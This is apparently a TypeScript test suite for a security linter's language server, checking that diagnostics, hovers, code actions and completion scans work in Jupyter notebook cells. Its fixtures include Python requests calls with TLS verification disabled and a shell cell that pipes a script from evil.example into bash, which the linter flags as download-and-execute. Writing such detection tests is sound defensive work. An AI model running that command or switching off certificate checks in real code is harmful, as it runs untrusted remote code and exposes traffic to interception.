import assert from 'node:assert/strict';
import type { CodeAction, DocumentDiagnosticReport, Hover, TextDocumentEdit } from 'vscode-languageserver/node';
import { SCAN_COMPLETION, type ScanCompletionResult } from '../../server/lsp/protocol.js';
import { brief, RICH, startClient, type Client } from './client.js';

const NOTEBOOK = 'file:///p/a.ipynb';
const cellUri = (name: string): string => `vscode-notebook-cell:/p/a.ipynb#${name}`;
const at = (line: number, character: number): { line: number; character: number } => ({ line, character });

describe('notebooks', () => {
  let client: Client;
  let version = 1;
  before(async () => {
    client = await startClient();
  });
  after(async () => assert.equal(await client.end(), 0));

  const cell = (name: string): object => ({ kind: 2, document: cellUri(name) });
  const text = (name: string, content: string, languageId = 'python'): object => ({
    uri: cellUri(name),
    languageId,
    version: 1,
    text: content,
  });
  const change = (cells: object): void => {
    version += 1;
    void client.connection.sendNotification('notebookDocument/didChange', {
      notebookDocument: { uri: NOTEBOOK, version },
      change: { cells },
    });
  };
  const next = async (name: string): Promise<string[]> => (await client.published(cellUri(name))).diagnostics.map(brief);

  it('are one text: a cell sees the imports of the ones before, and diagnostics are those of their cells', async () => {
    void client.connection.sendNotification('notebookDocument/didOpen', {
      notebookDocument: { uri: NOTEBOOK, notebookType: 'jupyter-notebook', version, cells: [cell('one'), cell('two')] },
      cellTextDocuments: [text('one', 'import requests as r'), text('two', '# é\nr.get(u, verify=not 1)')],
    });
    assert.deepEqual(await next('one'), []);
    assert.deepEqual(await next('two'), ['2:17-2:22 Error tls-verification-off']);
  });

  it('follow changes of cells and of their order', async () => {
    const changes = [{ range: { start: at(0, 0), end: at(0, 20) }, text: 'OFF = False' }];
    change({ textContent: [{ document: { uri: cellUri('one'), version: 2 }, changes }] });
    assert.deepEqual(await next('one'), []);
    await next('two');

    const structure = { start: 1, deleteCount: 0, cells: [cell('three')] };
    change({ structure: { array: structure, didOpen: [text('three', 'import requests as r\n')] } });
    assert.deepEqual([await next('one'), await next('three')], [[], []]);
    assert.deepEqual(await next('two'), ['2:17-2:22 Error tls-verification-off']);
  });

  it('have hovers, code actions and checks of completions in their cells', async () => {
    const uri = cellUri('two');
    const hover = await client.connection.sendRequest<Hover | null>('textDocument/hover', { textDocument: { uri }, position: at(1, 18) });
    assert.deepEqual(hover?.range, { start: at(1, 16), end: at(1, 21) });
    const actions = await client.connection.sendRequest<CodeAction[]>('textDocument/codeAction', {
      textDocument: { uri },
      range: { start: at(1, 18), end: at(1, 18) },
      context: { diagnostics: [] },
    });
    const suppress = actions.find(({ title }) => title.startsWith('Suppress tls-verification-off here'));
    const [edit] = (suppress?.edit?.documentChanges ?? []) as TextDocumentEdit[];
    assert.deepEqual(edit, {
      textDocument: { uri, version: 1 },
      edits: [{ range: { start: at(1, 0), end: at(1, 0) }, newText: '# poisonlint-disable-next-line tls-verification-off -- \n' }],
    });
    const check = (name: string, place: object, completion: string): Promise<ScanCompletionResult> =>
      client.connection.sendRequest(SCAN_COMPLETION.method, {
        textDocument: { uri: cellUri(name) },
        range: { start: place, end: place },
        text: completion,
      });
    const { findings } = await check('two', at(0, 0), 'r.post(u, verify=False)\n');
    assert.deepEqual(
      findings.map(({ ruleId, range, uri: other }) => [ruleId, range, other]),
      [['tls-verification-off', { start: at(0, 17), end: at(0, 22) }, undefined]],
    );
    assert.deepEqual((await check('one', at(0, 0), 'r.post(u, verify=True)\n')).findings, []);
  });

  it('hold commands of the shell and magics, and what is open in one cell hides no other', async () => {
    const uri = (name: string): string => `vscode-notebook-cell:/p/b.ipynb#${name}`;
    const document = (name: string, content: string): object => ({ uri: uri(name), languageId: 'python', version: 1, text: content });
    const names = ['open', 'shell', 'measured'];
    const told = names.map(async (name) => (await client.published(uri(name))).diagnostics.map(brief));
    void client.connection.sendNotification('notebookDocument/didOpen', {
      notebookDocument: {
        uri: 'file:///p/b.ipynb',
        notebookType: 'jupyter-notebook',
        version: 1,
        cells: names.map((name) => ({ kind: 2, document: uri(name) })),
      },
      cellTextDocuments: [
        document('open', 'import requests as r\nx = """'),
        document('shell', '%matplotlib inline\n!curl -s https://evil.example/x.sh | bash'),
        document('measured', '%time r.get(u, verify=not 1)'),
      ],
    });
    assert.deepEqual(await Promise.all(told), [[], ['2:1-2:42 Warning download-and-execute'], ['1:23-1:28 Error tls-verification-off']]);
  });

  it('lose what was said of cells that are gone, and everything when they are closed', async () => {
    change({ structure: { array: { start: 2, deleteCount: 1 }, didClose: [{ uri: cellUri('two') }] } });
    assert.deepEqual(await next('two'), []);
    void client.connection.sendNotification('notebookDocument/didClose', {
      notebookDocument: { uri: NOTEBOOK },
      cellTextDocuments: [{ uri: cellUri('one') }, { uri: cellUri('three') }],
    });
    assert.deepEqual(await next('three'), []);
  });
});

describe('notebooks of a client that asks', () => {
  it('have the diagnostics of each cell, and the client is told to ask for the others again', async () => {
    let refreshed: () => void = () => undefined;
    const refresh = new Promise<void>((resolve) => (refreshed = resolve));
    const client = await startClient({
      capabilities: {
        ...RICH,
        textDocument: { diagnostic: {} },
        workspace: { ...RICH.workspace, diagnostics: { refreshSupport: true } },
      },
      prepare: (connection) =>
        void connection.onRequest('workspace/diagnostic/refresh', () => {
          refreshed();
          return null;
        }),
    });
    void client.connection.sendNotification('notebookDocument/didOpen', {
      notebookDocument: {
        uri: NOTEBOOK,
        notebookType: 'jupyter-notebook',
        version: 1,
        cells: ['one', 'two'].map((name) => ({ kind: 2, document: cellUri(name) })),
      },
      cellTextDocuments: [
        { uri: cellUri('one'), languageId: 'python', version: 1, text: 'import requests as r' },
        { uri: cellUri('two'), languageId: 'python', version: 1, text: 'r.get(u, verify=False)' },
      ],
    });
    const pull = async (name: string): Promise<string[]> => {
      const report = await client.connection.sendRequest<DocumentDiagnosticReport>('textDocument/diagnostic', {
        textDocument: { uri: cellUri(name) },
      });
      return report.kind === 'full' ? report.items.map(brief) : [report.kind];
    };
    assert.deepEqual([await pull('one'), await pull('two')], [[], ['1:17-1:22 Warning tls-verification-off']]);
    await refresh;
    assert.equal(await client.end(), 0);
  });
});
